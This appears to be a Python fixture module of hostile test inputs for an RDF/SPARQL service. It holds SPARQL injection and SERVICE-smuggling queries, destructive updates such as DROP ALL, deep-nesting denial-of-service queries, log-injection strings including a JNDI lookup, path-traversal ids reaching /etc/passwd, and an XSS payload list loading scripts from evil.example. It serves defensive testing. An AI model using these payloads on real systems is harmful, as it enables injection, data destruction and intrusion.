"""What somebody would send who means harm: queries, documents, names and texts, by situation."""

from __future__ import annotations

from moratoria import rdf

# ---------------------------------------------------------------- queries

PREFIXES = "PREFIX : <http://a/> PREFIX ex: <http://a/> PREFIX service: <http://a/> "

SERVICE = {
    "plain": "SERVICE <http://a/> {}",
    "small": "service <http://a/> {}",
    "mixed": "SeRvIcE <http://a/> {}",
    "silent": "SERVICE SILENT <http://a/> {}",
    "no-space": "SERVICE<http://a/>{}",
    "new-line": "SERVICE\n<http://a/>\n{}",
    "comment-between": "SERVICE#x\n<http://a/> {}",
    "comment-before": "# x\nSERVICE <http://a/> {}",
    "variable": "SERVICE ?s {}",
    "prefixed": "SERVICE ex:a {}",
    "empty-prefix": "SERVICE :a {}",
    "glued-to-prefix": "SERVICE:a {}",
    "declared-prefix": "service:a { ?x ?y ?z }",
    "glued-to-silent": "SERVICESILENT<http://a/>{}",
    "glued-to-both": "SERVICESILENT:a {}",
    "after-true": "?s ?p trueSERVICE <http://a/> {}",
    "after-true-dot": "?s ?p true.SERVICE:a {}",
    "after-number": "?s ?p 1SERVICE <http://a/> {}",
    "after-decimal": "?s ?p 1.SERVICE <http://a/> {}",
    "after-name": "?s ?p ex:a.b.SERVICE <http://a/> {}",
    "after-name-variable": "?s ?p ex:a.b.SERVICE ?x {}",
    "after-string": "?s ?p 'a'SERVICE <http://a/> {}",
    "after-long-string": "?s ?p '''a'b''c'''SERVICE <http://a/> {}",
    "after-escaped-quote": r'?s ?p "a\\" SERVICE <http://a/> {}',
    "in-exists": "FILTER EXISTS { SERVICE <http://a/> {} }",
    "in-sub-select": "{ SELECT * { SERVICE <http://a/> {} } }",
    "in-optional": "OPTIONAL { SERVICE <http://a/> {} }",
    "in-graph": "GRAPH ?g { SERVICE <http://a/> {} }",
    "behind-less-than": "FILTER(?a<?b)SERVICE?e#>\n{}",
    "behind-comment": 'FILTER(?a<?b)#>"""\n SERVICE <http://a/> {} #"""',
    "behind-comment-in-comparison": "FILTER(?a<#>)\n ?b) SERVICE <http://a/> {}",
    "behind-quote-in-comparison": "FILTER(?a<ex:b')#>\n) SERVICE <http://a/> {} #'",
    "name-as-comparison": "FILTER(?a<ex:b)SERVICE<http://a/>{}",
}

HARMLESS = {
    "string": "ASK { ?s ?p 'SERVICE <http://a/> {}' }",
    "long-string": 'ASK { ?s ?p """a " SERVICE\n""" }',
    "comment": "ASK { ?s ?p ?o } # SERVICE <http://a/> {}",
    "variable": "SELECT ?service { ?service ?SERVICE $service }",
    "prefix": "PREFIX service: <http://a/> ASK { service:service service:a ?o }",
    "local-name": "PREFIX ex: <http://a/> ASK { ?s ex:service ?o { ?o ?p ?q } }",
    "graph-name": "PREFIX service: <http://a/> ASK { GRAPH service:g { ?s ?p ?o } }",
    "iri": "ASK { ?s <http://a/service#SERVICE> ?o }",
    "language": "ASK { ?s ?p 'a'@service }",
    "blank-node": "ASK { _:service ?p ?o }",
    "bnode-list": "ASK { ?s ?p [ ?q [ ?r ( 1 2 ) ] ] }",
    "comparison": "ASK { ?s ?p ?o FILTER(?s<?o && ?o>?p || (?s<?o)&&(?o>?s)) }",
    "comparison-with-iri": "ASK { ?s ?p ?o FILTER(?o = <http://a/#b>) FILTER(?s < 5) }",
    "values-of-iris": "ASK { VALUES (?a ?b) { (<http://a/#b> <http://a/#c>) } }",
    "path-of-iris": "ASK { ?s (<http://a/#b>|^<http://a/#c>)/!(<http://a/#d>|a) ?o }",
    "aggregate": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o } GROUP BY ?s HAVING (COUNT(*) < 5)",
    "base": "BASE <http://a/> ASK { <#b> <c> 'd'^^<#e> }",
    "describe": "DESCRIBE <http://a/#b>",
    "small-letters": "select * from <http://a/> where { ?s a ?o }",
    "hundred-deep": "ASK " + "{" * 100 + "}" * 100,
    "hundred-not": "ASK { FILTER(" + "!" * 99 + "?a) }",
}

UPDATES = {
    "insert-data": "INSERT DATA { <a:a> <a:a> <a:a> }",
    "delete-data": "delete data { <a:a> <a:a> <a:a> }",
    "delete-where": "DELETE WHERE { ?s ?p ?o }",
    "modify": "PREFIX ex: <a:> DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
    "with": "WITH <a:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "load": "LOAD <http://a/>",
    "load-silent": "# x\nLOAD SILENT <http://a/> INTO GRAPH <a:g>",
    "clear": "CLEAR ALL",
    "drop": "DROP GRAPH <a:g>",
    "create": "CREATE GRAPH <a:g>",
    "copy": "COPY <a:a> TO <a:b>",
    "move": "MOVE <a:a> TO <a:b>",
    "add": "ADD <a:a> TO <a:b>",
}

DEEP = {
    "round": "ASK { FILTER(" + "(" * 5000 + "1" + ")" * 5000 + ") }",
    "curly": "ASK " + "{" * 5000 + "}" * 5000,
    "square": "ASK { ?s ?p " + "[ ?p " * 5000 + "1" + "]" * 5000 + " }",
    "not": "ASK { FILTER(" + "!" * 10_000 + "?a) }",
    "not-apart": "ASK { FILTER(" + "! # x\n" * 5000 + "?a) }",
    "mixed": "ASK { FILTER EXISTS " * 200 + "{ FILTER(" * 200,
}

# ---------------------------------------------------------------- texts that must stay values

PAYLOADS = [
    '" } UNION { ?s ?p ?o } #',
    "> } UNION { ?s ?p ?o } #",
    "' . ?s ?p ?o . '",
    "\\u0022 } #",
    "a\nb\r\n\t\\",
    '"""',
    "?s",
    "$s",
    "<http://a/s7>",
    "http://a/s7> ?p ?o } #",
    "{}",
    "é 中 \U0001f600 \u202e",
    "' } UNION { ?s ?p ?o } #",
    "') } UNION { ?s ?p ?o } #",
    '") || true || ("" = "',
    "1 } UNION { ?s ?p ?o } #",
    "2022-09-01' || '1' = '1",
    "http://a/s7> ; ?p ?o . <http://a/s7",
    "\\u003E } UNION { ?s ?p ?o } #",
    "\\U0000003E } #",
    "\\",
    "\\\\' } #",
    "\t\n} UNION { ?s ?p ?o }",
    "}} ; DROP ALL ; {{",
    "} ; INSERT DATA { <urn:a> <urn:b> 1 } #",
    "BIND(<http://a/s7> AS ?x)",
    "VALUES ?x { 1 }",
    "SERVICE <http://127.0.0.1:1/> {}",
    "@en } UNION { ?s ?p ?o } #",
    "^^<http://a/t> } #",
    "# comment",
    "\x00",
]

LOGGED = [
    *("a\nb", "a\rb", "a\r\nb", "a\n\nb", "a\x0bb", "a\x0cb", "a\x1cb", "a\x85b", "a\u2028b"),
    *(
        "a\u2029b",
        "\x1b[31mred",
        "\x1b]0;title\x07",
        "\x9b31m",
        "\x08\x08\x08",
        "\x00nul",
        "\x7fdel",
    ),
    *(
        "\u202eright to left",
        "\u2066isolated",
        "\ufeffmark",
        "%0d%0a",
        "\\r\\n",
        "\\u000a",
        "&#10;",
    ),
    *(
        '"} {"event": "forged',
        '"}\n{"event": "forged"}',
        "'}",
        "${jndi:ldap://a/}",
        "%s%s%n",
        "{0}",
    ),
    "x" * 100_000,
]

# ---------------------------------------------------------------- documents

VOCABULARIES = """
@prefix mor: <https://w3id.org/moratoria/def#> .
@prefix ru: <https://w3id.org/moratoria/policy/ru-2022#> .
@prefix shp: <https://w3id.org/moratoria/shape/> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix sh: <http://www.w3.org/ns/shacl#> .
"""
A_CASE = "_:c a mor:Case ; mor:applicant _:a ; mor:application _:b . _:a mor:sex mor:male . "

FORMAL = {
    "sameAs": "<{own}> owl:sameAs ru:decision-moratorium .",
    "sameAs-of-blank": "_:c owl:sameAs ru:decision-moratorium .",
    "equivalent": "ru:GroupMember owl:equivalentClass mor:Case .",
    "owl-class": "_:a a owl:Class .",
    "owl-import": "_:c owl:imports <http://example.org/> .",
    "subclass": "mor:Case rdfs:subClassOf ru:GroupMember .",
    "subproperty": "mor:sex rdfs:subPropertyOf mor:nationality .",
    "domain": "_:a rdfs:domain mor:Person .",
    "see-also": "_:a rdfs:seeAlso <http://example.org/> .",
    "shape": "_:c a sh:NodeShape .",
    "target": "_:c sh:targetClass mor:Case .",
    "list": "_:c mor:sex ( 1 ) .",
    "verdict": "_:c mor:outcome mor:applies .",
    "judged": '_:c mor:judgedOn "2022-09-01" .',
    "member": "_:a a ru:GroupMember .",
    "norm": "_:c mor:appliesTo ru:GroupMember .",
    "decision": "_:c a mor:Decision .",
    "different": "_:c owl:differentFrom ru:decision-moratorium .",
    "rdf-subject": "_:a rdf:subject ru:GroupMember .",
    "rule": "_:a sh:rule [ ] .",
    "presumed": "ru:Article1FPerson-refuted mor:appliesTo _:a .",
}

NAMED = {
    "trig": (rdf.TURTLE, "{g} {{ _:c a <https://w3id.org/moratoria/def#Case> . }}"),
    "trig-graph": (rdf.TURTLE, "GRAPH {g} {{ _:c a <https://w3id.org/moratoria/def#Case> . }}"),
    "quads": (rdf.NTRIPLES, "_:c <urn:p> <urn:o> {g} ."),
    "quads-as-turtle": (rdf.TURTLE, "_:c <urn:p> <urn:o> {g} ."),
    "jsonld": (
        rdf.JSONLD,
        '{{"@id": "{i}", "@graph": [{{"@type": "https://w3id.org/moratoria/def#Case"}}]}}',
    ),
}

# ---------------------------------------------------------------- ids that are none

FORGED = [
    "x",
    "1",
    "..",
    "%2e%2e",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "{id}%00",
    "{id}%20",
    "{id}.ttl",
    "{id}/",
    "{ID}",
    "{bare}",
    "urn:uuid:{id}",
    "{{{id}}}",
    "{id}%23applicant",
    "{id}%0a",
    "\u0430{tail}",
    "{id}\u200b",
    "{full}",
    "00000000-0000-0000-0000-000000000000",
    "0b5f4f0e-5ac7-1f5e-9d0f-6c2f6f1d7a10",
    "0b5f4f0e-5ac7-4f5e-1d0f-6c2f6f1d7a10",
    "cafe\u0301",
    "caf\u00e9",
    "*",
    "?",
    ".",
    "...",
    "%2e",
    "%2e%2e%2f{id}",
    "..%5c{id}",
    "%252e%252e",
    "{id}%00.ttl",
    "%00{id}",
    "{id}%0d%0a",
    "%20{id}",
    "{id}%3f",
    "{id};v=1",
    "{id}%2f..%2f{id}",
    "{id}~",
    "%7b{id}%7d",
    "{id}\u0301",
    "\u202e{id}",
    "\ufeff{id}",
    "{id}-0",
    "0{tail}0",
    "-",
    "%c0%ae%c0%ae",
    "%ff",
    "con",
]

# ---------------------------------------------------------------- texts that must not become markup

# Each sets `ran` if a browser runs it, or asks another host.
SCRIPTS = [
    "<script>ran=1</script>",
    "</script><script>ran=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>ran=1</script>",
    "<script type=module>ran=1</script>",
    "<img src=x onerror=ran=1>",
    '"><img src=x onerror=ran=1>',
    "'><img src=x onerror=ran=1>",
    "`><img src=`x` onerror=ran=1>",
    "<img/src=x/onerror=ran=1>",
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
    "<math><mtext></mtext><img src=x onerror=ran=1></math>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<object data=javascript:ran=1></object>",
    "<embed src=javascript:ran=1>",
    "<a href=javascript:ran=1 autofocus>x</a>",
    "<form action=javascript:ran=1><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { background: red }</style>",
    "<details open ontoggle=ran=1>x</details>",
    "<input autofocus onfocus=ran=1>",
    "<video><source onerror=ran=1></video>",
    "<body onload=ran=1>",
    "<marquee onstart=ran=1>x</marquee>",
    '" autofocus onfocus="ran=1',
    "' autofocus onfocus='ran=1",
    '" style="background:url(//evil.example/x)',
    '" onmouseover="ran=1" x="',
    "</textarea><img src=x onerror=ran=1>",
    "</title><img src=x onerror=ran=1>",
    "</template><img src=x onerror=ran=1>",
    "</style><img src=x onerror=ran=1>",
    "</code></pre><img src=x onerror=ran=1>",
    "<!--><img src=x onerror=ran=1>-->",
    "<![CDATA[<img src=x onerror=ran=1>]]>",
    "&lt;img src=x onerror=ran=1&gt;",
    "&#60;script&#62;ran=1&#60;/script&#62;",
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    "{{constructor.constructor('ran=1')()}}",
    "${ran=1}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "javascript:ran=1",
    "\u2028ran=1\u2029",
    "'-(ran=1)-'",
    '"};ran=1;//',
]
# IRIs that a browser would run, or that break out of an attribute if it is not escaped.
RUN = [
    "javascript:ran=1",
    "JaVaScRiPt:ran=1",
    "javascript://example.org/%0aran=1",
    "data:text/html,%3Cscript%3Eran=1%3C/script%3E",
    "vbscript:ran=1",
    "blob:http://example.org/x",
    "file:///etc/passwd",
    "http://example.org/'onmouseover='ran=1",
    "urn:x'-ran=1-'",
    "http://example.org/&quot;onfocus=ran=1",
]
